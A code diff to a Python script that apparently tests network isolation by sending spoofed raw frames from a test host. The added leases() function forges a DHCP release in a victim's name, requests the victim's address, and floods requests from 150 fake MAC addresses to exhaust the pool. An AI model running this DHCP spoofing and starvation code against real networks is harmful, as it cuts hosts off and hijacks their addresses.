@@ -18,6 +18,7 @@ PORT = 15001
 MOUNTED = "/mnt/stolen"
 INTERFACE = next(name for name in os.listdir("/sys/class/net") if name != "lo")
 BROADCAST = b"\xff" * 6
+NOBODY, EVERYBODY = "0.0.0.0", "255.255.255.255"  # noqa: S104 (nothing is bound)
 
 
 def text(command: list[str]) -> str:
@@ -85,13 +86,47 @@ def advertisement(payload: bytes) -> bytes:
     return struct.pack("!IHBB", 6 << 28, len(body), 58, 255) + source + target + body
 
 
+def dhcp(kind: int, mac: bytes, own: str = "", asked: str = "", client: bytes = b"") -> bytes:
+    """A message to a DHCP server (RFC 2131): `own` is the address that the sender says it has, `asked` the one it wants.
+
+    `client` is what it calls itself, if anything.
+    """
+    body = struct.pack("!4B4sHH4s12s16s192s", 1, 1, 6, 0, mac[2:], 0, 0x8000, socket.inet_aton(own or NOBODY), b"", mac, b"")
+    options = bytes((53, 1, kind, 54, 4)) + socket.inet_aton(NODE)
+    options += bytes((50, 4)) + socket.inet_aton(asked) if asked else b""
+    options += bytes((61, len(client))) + client if client else b""
+    return body + b"\x63\x82\x53\x63" + options + b"\xff"
+
+
+REQUEST, RELEASE, INFORM = 3, 7, 8
+
+
+def leases(victim: str, victim_mac: bytes) -> None:
+    """Gives the victim's lease away, wants its address, talks of it, and asks for all others in the names of many."""
+    address, mac = mine()
+    link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
+    link.bind((INTERFACE, 0))
+
+    def send(source: str, target: str, message: bytes) -> None:
+        link.send(BROADCAST + mac + b"\x08\x00" + udp(source, target, (68, 67), message))
+        time.sleep(0.02)
+
+    send(address, NODE, dhcp(INFORM, mac, victim))
+    report("inform", "sent")
+    send(address, NODE, dhcp(RELEASE, victim_mac, victim))
+    report("release", "sent")
+    send(NOBODY, EVERYBODY, dhcp(REQUEST, mac, asked=victim))
+    for number in range(100, 250):
+        send(NOBODY, EVERYBODY, dhcp(REQUEST, packed(f"52:54:00:ee:00:{number:02x}"), asked=f"10.77.0.{number}"))
+    report("exhaust", "sent")
+
+
 def frames(victim: str, victim_mac: bytes) -> None:
     """Each twice, as any may be lost; `plain` is what may pass."""
     address, mac = mine()
     other = packed("52:54:00:ba:d0:01")
     link = socket.socket(socket.AF_PACKET, socket.SOCK_RAW)
     link.bind((INTERFACE, 0))
-    everybody = "255.255.255.255"
     sent = {
         "plain": (mac, 0x0806, arp(1, (mac, address), OPEN, b"<plain>")),
         "mac": (other, 0x0806, arp(1, (mac, address), OPEN, b"<mac>")),
@@ -100,8 +135,8 @@ def frames(victim: str, victim_mac: bytes) -> None:
         "arp-node": (mac, 0x0806, arp(2, (mac, NODE), NODE, b"<arp-node>")),
         "address": (mac, 0x0800, udp("10.77.0.77", OPEN, (4000, PORT), b"<address>")),
         "victims-address": (mac, 0x0800, udp(victim, OPEN, (4000, PORT), b"<victims-address>")),
-        "broadcast": (mac, 0x0800, udp(address, everybody, (4000, PORT), b"<broadcast>")),
-        "dhcp-answer": (mac, 0x0800, udp(address, everybody, (67, 68), b"<dhcp-answer>")),
+        "broadcast": (mac, 0x0800, udp(address, EVERYBODY, (4000, PORT), b"<broadcast>")),
+        "dhcp-answer": (mac, 0x0800, udp(address, EVERYBODY, (67, 68), b"<dhcp-answer>")),
         "router": (mac, 0x86DD, advertisement(b"<router>")),
         "vlan": (mac, 0x8100, struct.pack("!HH", 7, 0x0800) + udp(address, OPEN, (4000, PORT), b"<vlan>")),
         "unknown": (mac, 0x88B5, b"<unknown>" + bytes(40)),
@@ -197,6 +232,7 @@ def main() -> None:
         worker.start()
     for worker in workers:
         worker.join()
+    leases(victim, packed(victim_mac))
     frames(victim, packed(victim_mac))
     share(victim_place)
     forge()
